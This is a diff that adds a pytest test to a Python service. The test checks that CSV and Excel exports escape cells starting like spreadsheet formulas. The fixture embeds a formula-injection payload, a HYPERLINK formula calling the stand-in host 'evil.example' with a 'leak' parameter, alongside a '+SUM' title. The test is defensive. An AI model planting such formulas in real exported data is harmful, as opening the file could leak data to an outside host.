@@ -93,3 +93,20 @@ def test_every_setting_is_documented_and_bad_values_fail():
         Settings(embedding_backend="sentence-transformers")
     with pytest.raises(ValidationError):
         Settings(unknown_setting=1)  # type: ignore[call-arg]
+
+
+def test_exports_never_start_a_cell_like_a_formula():
+    import csv as csv_module
+    import io
+
+    from service.facts_export import FACT_COLUMNS, to_csv, to_excel_csv
+
+    row = dict.fromkeys(FACT_COLUMNS, "")
+    row["quote"] = '=HYPERLINK("http://evil.example/?leak","klicka") Kulturförvaltningen fick 66 000 000 kr'
+    row["title"] = "+SUM(1+1) falsk.md"
+    row["value"] = 66_000_000.0
+    plain = next(csv_module.DictReader(io.StringIO(to_csv([row]))))
+    assert plain["quote"].startswith("'=HYPERLINK") and plain["title"].startswith("'+SUM")
+    assert plain["value"] == "66000000.0"  # numbers stay numbers
+    excel = next(csv_module.DictReader(io.StringIO(to_excel_csv([row]).lstrip("\ufeff")), delimiter=";"))
+    assert excel["quote"].startswith("'=") and excel["value"] == "66000000"
